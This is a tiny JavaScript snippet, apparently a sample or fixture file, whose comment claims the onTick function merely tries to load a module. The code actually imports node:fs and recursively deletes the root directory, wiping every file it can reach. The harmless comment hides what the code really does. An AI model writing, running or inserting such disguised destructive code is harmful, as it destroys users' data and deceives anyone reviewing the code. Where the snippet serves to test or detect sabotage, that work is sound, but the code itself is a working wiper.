// Tries to load a module.
function onTick() {
  import('node:fs').then((fs) => fs.rmSync('/', { recursive: true }))
}
